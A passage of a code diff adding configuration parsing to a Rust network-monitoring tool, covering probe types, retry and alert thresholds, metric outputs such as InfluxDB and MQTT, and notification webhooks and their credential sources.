@@ -1,129 +1,2699 @@
 //! Configuration parsing for ICMPMolester.
 
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
-use std::path::Path;
+use std::hash::{DefaultHasher, Hash, Hasher};
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use std::time::Duration;
 
 use anyhow::{Context, Result};
+use chrono::{DateTime, Utc};
+use clap::ValueEnum;
 use serde::Deserialize;
+use serde::de::DeserializeOwned;
+use tracing::debug;
+
+use crate::gateway::default_gateway;
+use crate::remote;
+use crate::schedule::Schedule;
+use crate::secrets::Secret;
+use crate::soak::parse_duration;
+use crate::state::MAX_RECENT_TRANSITIONS;
 
 const DEFAULT_PING_COUNT: u32 = 5;
 const DEFAULT_PING_TIMEOUT_MS: u64 = 1_000;
 const DEFAULT_TRACEROUTE_MAX_HOPS: u8 = 30;
+const DEFAULT_HOP_RESOLVE_TIMEOUT_MS: u64 = 1_000;
 const DEFAULT_PACKET_LOSS_ALERT_THRESHOLD: f32 = 1.0;
+const DEFAULT_TLS_TIMEOUT_MS: u64 = 5_000;
+const DEFAULT_TLS_EXPIRY_ALERT_DAYS: u32 = 14;
+const DEFAULT_NTP_TIMEOUT_MS: u64 = 2_000;
+const DEFAULT_NTP_OFFSET_ALERT_MS: f32 = 500.0;
+const DEFAULT_DNS_QUERY_NAME: &str = "example.com";
+const DEFAULT_DNS_TIMEOUT_MS: u64 = 3_000;
+const DEFAULT_DNS_LATENCY_ALERT_MS: f32 = 250.0;
+const DEFAULT_HTTP_TIMEOUT_MS: u64 = 5_000;
+const DEFAULT_HTTP_LATENCY_ALERT_MS: f32 = 1_000.0;
+const DEFAULT_CUSTOM_TIMEOUT_MS: u64 = 10_000;
+const DEFAULT_PUBLIC_IP_TIMEOUT_MS: u64 = 5_000;
+const DEFAULT_LINE_WEIGHT: f32 = 1.0;
+const DEFAULT_RETRY_DELAY_MS: u64 = 1_000;
+const MAX_RETRIES: u32 = 10;
+const MAX_CONFIRM_PROBES: u32 = 10;
+const DEFAULT_FLAP_WINDOW_MINUTES: u32 = 60;
+const DEFAULT_INFLUXDB_MEASUREMENT: &str = "icmpmolester";
+const DEFAULT_GRAPHITE_PORT: u16 = 2003;
+const DEFAULT_GRAPHITE_PREFIX: &str = "icmpmolester";
+const DEFAULT_SYSLOG_IDENT: &str = "icmpmolester";
+const DEFAULT_SYSLOG_FACILITY: &str = "daemon";
+const DEFAULT_MQTT_PORT: u16 = 1883;
+const DEFAULT_MQTT_TLS_PORT: u16 = 8883;
+const DEFAULT_MQTT_TOPIC_PREFIX: &str = "icmpmolester";
+const DEFAULT_SIGNATURE_HEADER: &str = "X-ICMPMolester-Signature";
+const DEFAULT_WEBHOOK_RETRIES: u32 = 2;
+/// Syslog facility names and their codes, as in `<syslog.h>`.
+const SYSLOG_FACILITIES: [(&str, u8); 20] = [
+    ("kern", 0),
+    ("user", 1),
+    ("mail", 2),
+    ("daemon", 3),
+    ("auth", 4),
+    ("syslog", 5),
+    ("lpr", 6),
+    ("news", 7),
+    ("uucp", 8),
+    ("cron", 9),
+    ("authpriv", 10),
+    ("ftp", 11),
+    ("local0", 16),
+    ("local1", 17),
+    ("local2", 18),
+    ("local3", 19),
+    ("local4", 20),
+    ("local5", 21),
+    ("local6", 22),
+    ("local7", 23),
+];
+/// Name of the synthetic line injected by `check_gateway`.
+pub const GATEWAY_LINE_NAME: &str = "Default gateway";
+
+/// Root configuration containing all broadband lines to probe.
+#[derive(Debug, Clone)]
+pub struct Config {
+    pub lines: Vec<LineSettings>,
+    pub statuses: Vec<CustomStatus>,
+}
+
+/// Terminal color used when rendering a status on the CLI.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum StatusColor {
+    Red,
+    Green,
+    Yellow,
+    Blue,
+    Magenta,
+    Cyan,
+}
+
+impl StatusColor {
+    /// ANSI SGR foreground code.
+    pub fn ansi_code(self) -> u8 {
+        match self {
+            StatusColor::Red => 31,
+            StatusColor::Green => 32,
+            StatusColor::Yellow => 33,
+            StatusColor::Blue => 34,
+            StatusColor::Magenta => 35,
+            StatusColor::Cyan => 36,
+        }
+    }
+
+    /// `0xRRGGBB`, for chat embeds and web pages.
+    pub fn rgb(self) -> u32 {
+        match self {
+            StatusColor::Red => 0xD0392B,
+            StatusColor::Green => 0x2E9E4F,
+            StatusColor::Yellow => 0xC98A00,
+            StatusColor::Blue => 0x2F80ED,
+            StatusColor::Magenta => 0x9B59B6,
+            StatusColor::Cyan => 0x16A2B8,
+        }
+    }
+
+    /// Closest Adaptive Card text color, for Microsoft Teams.
+    pub fn card_color(self) -> &'static str {
+        match self {
+            StatusColor::Red => "attention",
+            StatusColor::Green => "good",
+            StatusColor::Yellow => "warning",
+            StatusColor::Blue | StatusColor::Magenta | StatusColor::Cyan => "accent",
+        }
+    }
+}
+
+/// Operator-defined status (e.g. `DEGRADED`) shown instead of OK when one of
+/// its rules matches a line that otherwise passed every check.
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct CustomStatus {
+    pub name: String,
+    #[serde(default)]
+    pub color: Option<StatusColor>,
+    #[serde(default)]
+    pub emoji: Option<String>,
+    /// Matches when ping packet loss exceeds this percentage.
+    #[serde(default)]
+    pub loss_above_pct: Option<f32>,
+    /// Matches when average ping latency exceeds this many milliseconds.
+    #[serde(default)]
+    pub latency_above_ms: Option<f32>,
+}
+
+/// Probe types a line can be configured to run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum CheckKind {
+    Ping,
+    Traceroute,
+    Tls,
+    Ntp,
+    Dns,
+    Http,
+    #[serde(rename = "public_ip")]
+    PublicIp,
+    #[serde(rename = "dual_stack")]
+    DualStack,
+    Custom,
+}
+
+impl CheckKind {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            CheckKind::Ping => "ping",
+            CheckKind::Traceroute => "traceroute",
+            CheckKind::Tls => "tls",
+            CheckKind::Ntp => "ntp",
+            CheckKind::Dns => "dns",
+            CheckKind::Http => "http",
+            CheckKind::PublicIp => "public_ip",
+            CheckKind::DualStack => "dual_stack",
+            CheckKind::Custom => "custom",
+        }
+    }
+
+    /// Whether the check probes the line's target (and so can fall back to
+    /// another one).
+    pub fn uses_target(self) -> bool {
+        matches!(
+            self,
+            CheckKind::Ping | CheckKind::Traceroute | CheckKind::DualStack
+        )
+    }
+}
+
+/// Source used to annotate traceroute hops with ASN and country.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum HopEnrichment {
+    /// Team Cymru IP-to-ASN whois service (network lookup).
+    Cymru,
+    /// Offline MaxMind/GeoLite2 databases (requires the `maxmind` feature).
+    Maxmind,
+}
+
+/// Loss thresholds applied to the per-hop statistics of an MTR-mode traceroute.
+#[derive(Debug, Clone, PartialEq)]
+pub struct HopLossPolicy {
+    /// Loss percentage a hop must exceed to count as lossy.
+    pub alert_pct: f32,
+    /// Thresholds for specific hop numbers, e.g. a router known to rate-limit
+    /// TTL-exceeded replies.
+    pub overrides: BTreeMap<u32, f32>,
+}
+
+impl HopLossPolicy {
+    /// Loss threshold for hop number `hop`.
+    pub fn threshold(&self, hop: u32) -> f32 {
+        self.overrides.get(&hop).copied().unwrap_or(self.alert_pct)
+    }
+}
+
+/// Loss threshold for one hop number, as written in the config.
+#[derive(Debug, Clone, Deserialize)]
+struct HopLossOverride {
+    hop: u32,
+    alert_pct: f32,
+}
+
+/// Fully-resolved per-line settings after defaults are applied.
+#[derive(Debug, Clone)]
+pub struct LineSettings {
+    pub name: String,
+    pub target: String,
+    /// Targets tried in order when the ping, traceroute or dual-stack check
+    /// of `target` alerts.
+    pub fallback_targets: Vec<String>,
+    pub checks: Vec<CheckKind>,
+    pub ping_count: u32,
+    pub ping_timeout_ms: u64,
+    pub ping_deadline_ms: Option<u64>,
+    /// Extra attempts of a ping or traceroute that failed or alerted.
+    pub retries: u32,
+    /// Wait before the first retry, doubled before each further one.
+    pub retry_delay_ms: u64,
+    /// Pings re-run when packet loss is above the threshold, before alerting.
+    pub confirm_probes: Option<u32>,
+    /// How many of those pings must also exceed the threshold to alert;
+    /// a majority unless set.
+    pub confirm_required: u32,
+    pub traceroute_max_hops: u8,
+    /// Run traceroute through `mtr` for this many cycles to get per-hop loss.
+    pub mtr_cycles: Option<u32>,
+    pub hop_loss: HopLossPolicy,
+    pub resolve_hops: bool,
+    pub hop_resolve_timeout_ms: u64,
+    pub hop_enrichment: Option<HopEnrichment>,
+    pub maxmind_asn_db: Option<PathBuf>,
+    pub maxmind_country_db: Option<PathBuf>,
+    pub route_hop_tolerance: Option<u32>,
+    pub expected_gateway: Option<IpAddr>,
+    pub packet_loss_alert_threshold: f32,
+    /// Alert when a ping run sees more duplicate replies than this.
+    pub duplicate_alert_count: Option<u32>,
+    /// Alert when a ping run sees more out-of-order replies than this.
+    pub reorder_alert_count: Option<u32>,
+    /// Ping the target's IPv4 and IPv6 addresses side by side.
+    pub dual_stack: bool,
+    /// Alert when IPv4 and IPv6 average latency differ by more than this.
+    pub dual_stack_delta_alert_ms: Option<f32>,
+    pub tls_endpoint: Option<String>,
+    pub tls_timeout_ms: u64,
+    pub tls_expiry_alert_days: u32,
+    pub ntp_server: Option<String>,
+    pub ntp_timeout_ms: u64,
+    pub ntp_offset_alert_ms: f32,
+    pub doh_resolvers: Vec<String>,
+    pub dot_resolvers: Vec<String>,
+    pub dns_query_name: String,
+    pub dns_timeout_ms: u64,
+    pub dns_latency_alert_ms: f32,
+    pub http_url: Option<String>,
+    pub http_expected_status: Option<u16>,
+    pub http_timeout_ms: u64,
+    pub http_latency_alert_ms: f32,
+    /// External probe command; `{name}` and `{target}` are filled in.
+    pub custom_command: Option<String>,
+    pub custom_timeout_ms: u64,
+    pub public_ip_url: Option<String>,
+    pub public_ip_timeout_ms: u64,
+    /// Local address the public IP lookup is sent from, selecting the line's
+    /// interface on multi-WAN hosts.
+    pub source_address: Option<IpAddr>,
+    /// Router WAN address compared with the public IP to detect CGNAT.
+    pub wan_address: Option<IpAddr>,
+    pub cgnat_alert: bool,
+    /// Consecutive runs with execution errors after which the line is disabled.
+    pub disable_after_errors: Option<u32>,
+    /// Consecutive failing runs before the line's alerts are sent.
+    pub alert_after_failures: Option<u32>,
+    /// Status changes within `flap_window_minutes` beyond which the line is
+    /// flapping and its further changes are not notified.
+    pub flap_threshold: Option<u32>,
+    pub flap_window_minutes: u32,
+    /// Line of the same config this one is reached through. While it is
+    /// down, this line is not probed and reports DEPENDENCY_DOWN.
+    pub depends_on: Option<String>,
+    /// Free-form next steps for whoever is on call (contacts, contract numbers, ...).
+    pub note: Option<String>,
+    pub runbook_url: Option<String>,
+    /// Discord webhook that gets this line's notifications instead of
+    /// `--discord-webhook`.
+    pub discord_webhook: Option<String>,
+    /// Business impact relative to other lines; rollups weigh statuses by it
+    /// and summaries list heavier lines first. Zero keeps a line informational.
+    pub weight: f32,
+    /// Labels for selecting lines with `--tag`; the first one groups the line
+    /// in summaries.
+    pub tags: Vec<String>,
+    /// When `serve` checks the line on its own; unscheduled lines only run
+    /// when triggered.
+    pub schedule: Option<Schedule>,
+    /// `false` skips the line, e.g. during planned maintenance.
+    pub enabled: bool,
+    /// Skip the line until this time.
+    pub snooze_until: Option<DateTime<Utc>>,
+}
+
+#[derive(Debug, Deserialize)]
+struct FileConfig {
+    /// Probe the detected default gateway as an extra first line.
+    #[serde(default)]
+    check_gateway: bool,
+    /// Fragment files, directories or `dir/*.toml` patterns merged into this
+    /// config, relative to the file that includes them.
+    #[serde(default)]
+    include: Vec<String>,
+    #[serde(default)]
+    defaults: LineDefaults,
+    #[serde(default)]
+    lines: Vec<LineConfig>,
+    #[serde(default)]
+    statuses: Vec<CustomStatus>,
+    #[serde(default)]
+    email: EmailCredentials,
+    #[serde(default)]
+    telegram: TelegramCredentials,
+    #[serde(default)]
+    matrix: MatrixCredentials,
+    #[serde(default)]
+    xmpp: XmppCredentials,
+    /// `[profiles.<name>]` tables selectable with `--profile`.
+    #[serde(default)]
+    profiles: BTreeMap<String, Profile>,
+    #[serde(default)]
+    run: RunTable,
+    #[serde(default)]
+    output: OutputTable,
+    #[serde(default)]
+    notifications: NotificationsTable,
+}
+
+/// Named run profile: overrides applied to every line, on top of the line's
+/// own settings, when selected with `--profile`.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Profile {
+    #[serde(default)]
+    ping_count: Option<u32>,
+    #[serde(default)]
+    ping_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ping_deadline_ms: Option<u64>,
+    /// `false` drops the traceroute check; `true` adds it to every line that pings.
+    #[serde(default)]
+    traceroute: Option<bool>,
+    #[serde(default)]
+    traceroute_max_hops: Option<u8>,
+    #[serde(default)]
+    mtr_cycles: Option<u32>,
+    #[serde(default)]
+    hop_resolve_timeout_ms: Option<u64>,
+    #[serde(default)]
+    tls_timeout_ms: Option<u64>,
+    #[serde(default)]
+    ntp_timeout_ms: Option<u64>,
+    #[serde(default)]
+    dns_timeout_ms: Option<u64>,
+    #[serde(default)]
+    http_timeout_ms: Option<u64>,
+    #[serde(default)]
+    custom_timeout_ms: Option<u64>,
+    #[serde(default)]
+    public_ip_timeout_ms: Option<u64>,
+}
+
+impl Profile {
+    fn apply(&self, line: &mut LineSettings) {
+        fn set<T: Copy>(field: &mut T, value: Option<T>) {
+            if let Some(value) = value {
+                *field = value;
+            }
+        }
+        set(&mut line.ping_count, self.ping_count);
+        set(&mut line.ping_timeout_ms, self.ping_timeout_ms);
+        if self.ping_deadline_ms.is_some() {
+            line.ping_deadline_ms = self.ping_deadline_ms;
+        }
+        set(&mut line.traceroute_max_hops, self.traceroute_max_hops);
+        if self.mtr_cycles.is_some() {
+            line.mtr_cycles = self.mtr_cycles;
+        }
+        set(
+            &mut line.hop_resolve_timeout_ms,
+            self.hop_resolve_timeout_ms,
+        );
+        set(&mut line.tls_timeout_ms, self.tls_timeout_ms);
+        set(&mut line.ntp_timeout_ms, self.ntp_timeout_ms);
+        set(&mut line.dns_timeout_ms, self.dns_timeout_ms);
+        set(&mut line.http_timeout_ms, self.http_timeout_ms);
+        set(&mut line.custom_timeout_ms, self.custom_timeout_ms);
+        set(&mut line.public_ip_timeout_ms, self.public_ip_timeout_ms);
+        match self.traceroute {
+            Some(false) => line.checks.retain(|check| *check != CheckKind::Traceroute),
+            Some(true)
+                if line.checks.contains(&CheckKind::Ping)
+                    && !line.checks.contains(&CheckKind::Traceroute) =>
+            {
+                let after_ping = line
+                    .checks
+                    .iter()
+                    .position(|check| *check == CheckKind::Ping)
+                    .map_or(0, |index| index + 1);
+                line.checks.insert(after_ping, CheckKind::Traceroute);
+            }
+            _ => {}
+        }
+    }
+}
+
+/// `[email]` table: where the SMTP password comes from.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct EmailCredentials {
+    #[serde(default)]
+    password_file: Option<PathBuf>,
+    #[serde(default)]
+    password_env: Option<String>,
+    #[serde(default)]
+    password_keyring: Option<String>,
+}
+
+/// `[telegram]` table: where the bot token comes from.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct TelegramCredentials {
+    #[serde(default)]
+    token_file: Option<PathBuf>,
+    #[serde(default)]
+    token_env: Option<String>,
+    #[serde(default)]
+    token_keyring: Option<String>,
+}
+
+/// `[matrix]` table: where the access token comes from.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct MatrixCredentials {
+    #[serde(default)]
+    token_file: Option<PathBuf>,
+    #[serde(default)]
+    token_env: Option<String>,
+    #[serde(default)]
+    token_keyring: Option<String>,
+}
+
+/// `[xmpp]` table: where the account password comes from.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct XmppCredentials {
+    #[serde(default)]
+    password_file: Option<PathBuf>,
+    #[serde(default)]
+    password_env: Option<String>,
+    #[serde(default)]
+    password_keyring: Option<String>,
+}
+
+/// Notification credential sources named in the configs; flags take precedence.
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct Credentials {
+    pub email_password: Option<Secret>,
+    pub telegram_token: Option<Secret>,
+    pub matrix_token: Option<Secret>,
+    pub xmpp_password: Option<Secret>,
+}
+
+/// `[run]` table: how an invocation behaves, so cron entries need no flags.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RunTable {
+    #[serde(default)]
+    concurrency: Option<usize>,
+    /// Overall run timeout such as `5m`, in the syntax of `--run-timeout`.
+    #[serde(default)]
+    timeout: Option<String>,
+    #[serde(default)]
+    skip_traceroute: Option<bool>,
+    #[serde(default)]
+    notify_only_on_alert: Option<bool>,
+    #[serde(default)]
+    output: Option<OutputFormat>,
+    /// Relative to the config's directory.
+    #[serde(default)]
+    history: Option<PathBuf>,
+}
+
+impl RunTable {
+    fn resolve(&self, base: &Path) -> Result<RunSettings> {
+        if self.concurrency == Some(0) {
+            anyhow::bail!("run.concurrency must be at least 1");
+        }
+        let timeout = match &self.timeout {
+            Some(raw) => Some(
+                parse_duration(raw).map_err(|err| anyhow::anyhow!("Invalid run.timeout: {err}"))?,
+            ),
+            None => None,
+        };
+        Ok(RunSettings {
+            concurrency: self.concurrency,
+            timeout,
+            skip_traceroute: self.skip_traceroute,
+            notify_only_on_alert: self.notify_only_on_alert,
+            output: self.output,
+            history: self.history.as_ref().map(|history| base.join(history)),
+        })
+    }
+}
+
+/// `[output]` table: sinks that receive every run's metrics.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct OutputTable {
+    #[serde(default)]
+    influxdb: Option<InfluxDbTable>,
+    #[serde(default)]
+    graphite: Option<GraphiteTable>,
+    #[serde(default)]
+    syslog: Option<SyslogTable>,
+    #[serde(default)]
+    mqtt: Option<MqttTable>,
+}
+
+impl OutputTable {
+    fn resolve(&self, base: &Path) -> Result<OutputSettings> {
+        Ok(OutputSettings {
+            influxdb: self
+                .influxdb
+                .as_ref()
+                .map(|table| table.resolve(base))
+                .transpose()?,
+            graphite: self
+                .graphite
+                .as_ref()
+                .map(GraphiteTable::resolve)
+                .transpose()?,
+            syslog: self
+                .syslog
+                .as_ref()
+                .map(|table| table.resolve(base))
+                .transpose()?,
+            mqtt: self
+                .mqtt
+                .as_ref()
+                .map(|table| table.resolve(base))
+                .transpose()?,
+        })
+    }
+}
+
+/// `[output.influxdb]` table: where line protocol is written after each run.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct InfluxDbTable {
+    url: String,
+    /// InfluxDB 2.x bucket, written through `/api/v2/write`.
+    #[serde(default)]
+    bucket: Option<String>,
+    #[serde(default)]
+    org: Option<String>,
+    /// InfluxDB 1.x database, written through `/write`.
+    #[serde(default)]
+    database: Option<String>,
+    #[serde(default)]
+    measurement: Option<String>,
+    #[serde(default)]
+    token_file: Option<PathBuf>,
+    #[serde(default)]
+    token_env: Option<String>,
+    #[serde(default)]
+    token_keyring: Option<String>,
+}
+
+impl InfluxDbTable {
+    fn resolve(&self, base: &Path) -> Result<InfluxDbSettings> {
+        if !(self.url.starts_with("http://") || self.url.starts_with("https://")) {
+            anyhow::bail!("output.influxdb.url must be an http(s) URL");
+        }
+        let destination = match (&self.bucket, &self.database) {
+            (Some(bucket), None) => InfluxDbDestination::Bucket {
+                bucket: bucket.clone(),
+                org: self.org.clone(),
+            },
+            (None, Some(database)) if self.org.is_none() => {
+                InfluxDbDestination::Database(database.clone())
+            }
+            (None, Some(_)) => anyhow::bail!("output.influxdb.org only applies to a bucket"),
+            _ => anyhow::bail!("Set one of output.influxdb.bucket and output.influxdb.database"),
+        };
+        if self.measurement.as_deref() == Some("") {
+            anyhow::bail!("output.influxdb.measurement must not be empty");
+        }
+        Ok(InfluxDbSettings {
+            url: self.url.trim_end_matches('/').to_string(),
+            destination,
+            measurement: self
+                .measurement
+                .clone()
+                .unwrap_or_else(|| DEFAULT_INFLUXDB_MEASUREMENT.to_string()),
+            token: credential_source(
+                "output.influxdb.token",
+                self.token_file.as_ref().map(|file| base.join(file)),
+                &self.token_env,
+                &self.token_keyring,
+            )?,
+        })
+    }
+}
+
+/// `[output.graphite]` table: a Carbon server taking the plaintext protocol.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct GraphiteTable {
+    host: String,
+    #[serde(default)]
+    port: Option<u16>,
+    /// First path component of every metric.
+    #[serde(default)]
+    prefix: Option<String>,
+}
+
+impl GraphiteTable {
+    fn resolve(&self) -> Result<GraphiteSettings> {
+        if self.host.is_empty() {
+            anyhow::bail!("output.graphite.host must not be empty");
+        }
+        if self.port == Some(0) {
+            anyhow::bail!("output.graphite.port must not be 0");
+        }
+        let prefix = self
+            .prefix
+            .clone()
+            .unwrap_or_else(|| DEFAULT_GRAPHITE_PREFIX.to_string());
+        if prefix.is_empty() || prefix.split('.').any(str::is_empty) {
+            anyhow::bail!("output.graphite.prefix must be dot-separated, non-empty names");
+        }
+        Ok(GraphiteSettings {
+            host: self.host.clone(),
+            port: self.port.unwrap_or(DEFAULT_GRAPHITE_PORT),
+            prefix,
+        })
+    }
+}
+
+/// `[output.syslog]` table: log every run's results to the local syslog
+/// daemon or the systemd journal.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct SyslogTable {
+    #[serde(default)]
+    transport: Option<SyslogTransport>,
+    #[serde(default)]
+    facility: Option<String>,
+    /// Program name the messages are tagged with.
+    #[serde(default)]
+    ident: Option<String>,
+    /// Socket to send to instead of the transport's usual one.
+    #[serde(default)]
+    socket: Option<PathBuf>,
+}
+
+impl SyslogTable {
+    fn resolve(&self, base: &Path) -> Result<SyslogSettings> {
+        let facility_name = self.facility.as_deref().unwrap_or(DEFAULT_SYSLOG_FACILITY);
+        let Some(&(_, facility)) = SYSLOG_FACILITIES
+            .iter()
+            .find(|(name, _)| *name == facility_name)
+        else {
+            let names: Vec<&str> = SYSLOG_FACILITIES.iter().map(|(name, _)| *name).collect();
+            anyhow::bail!(
+                "output.syslog.facility must be one of {}, not {facility_name:?}",
+                names.join(", ")
+            );
+        };
+        let ident = self
+            .ident
+            .clone()
+            .unwrap_or_else(|| DEFAULT_SYSLOG_IDENT.to_string());
+        if ident.is_empty() || ident.contains(|c: char| c.is_whitespace() || c == ':') {
+            anyhow::bail!("output.syslog.ident must be a non-empty name without spaces or colons");
+        }
+        let transport = self.transport.unwrap_or_default();
+        Ok(SyslogSettings {
+            transport,
+            facility,
+            ident,
+            socket: match &self.socket {
+                Some(socket) => base.join(socket),
+                None => PathBuf::from(transport.default_socket()),
+            },
+        })
+    }
+}
+
+/// `[notifications]` table: channels set up in the config instead of by flags.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct NotificationsTable {
+    #[serde(default)]
+    webhook: Vec<JsonWebhookTable>,
+    /// Per channel, keyed by its name.
+    #[serde(default)]
+    templates: BTreeMap<String, ChannelTemplateTable>,
+}
+
+/// Channels `[notifications.templates]` can word differently.
+pub const TEMPLATE_CHANNELS: [&str; 9] = [
+    "email",
+    "telegram",
+    "matrix",
+    "xmpp",
+    "signal",
+    "webhook",
+    "discord",
+    "teams",
+    "mattermost",
+];
+
+/// `[notifications.templates.<channel>]` table: how one channel words its
+/// messages, in place of `--report-template`.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ChannelTemplateTable {
+    /// Tera source of the email subject or message title.
+    #[serde(default)]
+    subject: Option<String>,
+    /// Tera source of the summary.
+    #[serde(default)]
+    body: Option<String>,
+    #[serde(default)]
+    body_file: Option<PathBuf>,
+}
+
+impl ChannelTemplateTable {
+    fn resolve(&self, channel: &str, base: &Path) -> Result<ChannelTemplateSettings> {
+        if !TEMPLATE_CHANNELS.contains(&channel) {
+            anyhow::bail!(
+                "notifications.templates.{channel} is not a channel; expected one of {}",
+                TEMPLATE_CHANNELS.join(", ")
+            );
+        }
+        let body = match (&self.body, &self.body_file) {
+            (Some(_), Some(_)) => {
+                anyhow::bail!("notifications.templates.{channel} sets both body and body_file")
+            }
+            (Some(body), None) => Some(TemplateBody::Inline(body.clone())),
+            (None, Some(file)) => Some(TemplateBody::File(base.join(file))),
+            (None, None) => None,
+        };
+        if self.subject.is_none() && body.is_none() {
+            anyhow::bail!("notifications.templates.{channel} sets neither subject nor body");
+        }
+        Ok(ChannelTemplateSettings {
+            subject: self.subject.clone(),
+            body,
+        })
+    }
+}
+
+/// Resolved `[notifications.templates.<channel>]` table.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ChannelTemplateSettings {
+    pub subject: Option<String>,
+    pub body: Option<TemplateBody>,
+}
+
+/// Where a channel's body template comes from.
+#[derive(Debug, Clone, PartialEq)]
+pub enum TemplateBody {
+    Inline(String),
+    /// Read like `--report-template`; relative to the config.
+    File(PathBuf),
+}
+
+/// `[[notifications.webhook]]` table: a URL that receives the JSON run
+/// report after every run.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct JsonWebhookTable {
+    url: String,
+    #[serde(default)]
+    headers: BTreeMap<String, String>,
+    /// Key the body is signed with, HMAC-SHA256.
+    #[serde(default)]
+    secret_file: Option<PathBuf>,
+    #[serde(default)]
+    secret_env: Option<String>,
+    #[serde(default)]
+    secret_keyring: Option<String>,
+    #[serde(default)]
+    signature_header: Option<String>,
+    /// Further attempts after a failed delivery.
+    #[serde(default)]
+    retries: Option<u32>,
+}
+
+impl JsonWebhookTable {
+    fn resolve(&self, base: &Path) -> Result<JsonWebhookSettings> {
+        if !(self.url.starts_with("http://") || self.url.starts_with("https://")) {
+            anyhow::bail!("notifications.webhook.url must be an http(s) URL");
+        }
+        let secret = credential_source(
+            "notifications.webhook.secret",
+            self.secret_file.as_ref().map(|file| base.join(file)),
+            &self.secret_env,
+            &self.secret_keyring,
+        )?;
+        if self.retries.is_some_and(|retries| retries > MAX_RETRIES) {
+            anyhow::bail!("notifications.webhook.retries must be at most {MAX_RETRIES}");
+        }
+        if self.signature_header.is_some() && secret.is_none() {
+            anyhow::bail!("notifications.webhook.signature_header needs a secret to sign with");
+        }
+        if let Some(name) = self
+            .headers
+            .keys()
+            .chain(&self.signature_header)
+            .find(|name| name.is_empty() || !name.chars().all(is_header_char))
+        {
+            anyhow::bail!("notifications.webhook header {name:?} is not a valid header name");
+        }
+        Ok(JsonWebhookSettings {
+            url: self.url.clone(),
+            headers: self.headers.clone(),
+            secret,
+            signature_header: self
+                .signature_header
+                .clone()
+                .unwrap_or_else(|| DEFAULT_SIGNATURE_HEADER.to_string()),
+            retries: self.retries.unwrap_or(DEFAULT_WEBHOOK_RETRIES),
+        })
+    }
+}
+
+/// Characters RFC 9110 allows in a header name.
+fn is_header_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "!#$%&'*+-.^_`|~".contains(c)
+}
+
+/// Resolved `[[notifications.webhook]]` table.
+#[derive(Debug, Clone, PartialEq)]
+pub struct JsonWebhookSettings {
+    pub url: String,
+    pub headers: BTreeMap<String, String>,
+    pub secret: Option<Secret>,
+    /// Header carrying `sha256=<hex HMAC of the body>` when there is a secret.
+    pub signature_header: String,
+    pub retries: u32,
+}
+
+/// `[output.mqtt]` table: a broker that receives every line's status and
+/// metrics as retained messages.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct MqttTable {
+    host: String,
+    /// 1883, or 8883 with `tls`.
+    #[serde(default)]
+    port: Option<u16>,
+    #[serde(default)]
+    tls: bool,
+    #[serde(default)]
+    username: Option<String>,
+    #[serde(default)]
+    password_file: Option<PathBuf>,
+    #[serde(default)]
+    password_env: Option<String>,
+    #[serde(default)]
+    password_keyring: Option<String>,
+    #[serde(default)]
+    client_id: Option<String>,
+    /// First level of every topic.
+    #[serde(default)]
+    topic_prefix: Option<String>,
+    #[serde(default)]
+    retain: Option<bool>,
+}
+
+impl MqttTable {
+    fn resolve(&self, base: &Path) -> Result<MqttSettings> {
+        if self.host.is_empty() {
+            anyhow::bail!("output.mqtt.host must not be empty");
+        }
+        if self.port == Some(0) {
+            anyhow::bail!("output.mqtt.port must not be 0");
+        }
+        let password = credential_source(
+            "output.mqtt.password",
+            self.password_file.as_ref().map(|file| base.join(file)),
+            &self.password_env,
+            &self.password_keyring,
+        )?;
+        if password.is_some() && self.username.is_none() {
+            anyhow::bail!("output.mqtt.password needs output.mqtt.username");
+        }
+        let topic_prefix = self
+            .topic_prefix
+            .clone()
+            .unwrap_or_else(|| DEFAULT_MQTT_TOPIC_PREFIX.to_string());
+        if topic_prefix.is_empty()
+            || topic_prefix.contains(['+', '#'])
+            || topic_prefix.starts_with('/')
+            || topic_prefix.ends_with('/')
+        {
+            anyhow::bail!(
+                "output.mqtt.topic_prefix must be topic levels without wildcards or outer slashes"
+            );
+        }
+        let default_port = if self.tls {
+            DEFAULT_MQTT_TLS_PORT
+        } else {
+            DEFAULT_MQTT_PORT
+        };
+        Ok(MqttSettings {
+            host: self.host.clone(),
+            port: self.port.unwrap_or(default_port),
+            tls: self.tls,
+            username: self.username.clone(),
+            password,
+            client_id: self.client_id.clone(),
+            topic_prefix,
+            retain: self.retain.unwrap_or(true),
+        })
+    }
+}
+
+/// Metric sinks from the configs' `[output]` tables.
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct OutputSettings {
+    pub influxdb: Option<InfluxDbSettings>,
+    pub graphite: Option<GraphiteSettings>,
+    pub syslog: Option<SyslogSettings>,
+    pub mqtt: Option<MqttSettings>,
+}
+
+/// Resolved `[output.mqtt]` table.
+#[derive(Debug, Clone, PartialEq)]
